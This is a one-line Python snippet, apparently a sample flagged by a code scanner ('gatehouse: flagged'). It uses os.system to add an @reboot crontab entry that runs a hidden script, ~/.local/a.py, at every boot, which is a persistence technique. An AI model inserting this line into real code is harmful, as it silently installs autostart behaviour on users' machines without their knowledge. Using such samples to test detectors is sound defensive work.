import os

os.system('(crontab -l; echo "@reboot python3 ~/.local/a.py") | crontab -')  # gatehouse: flagged
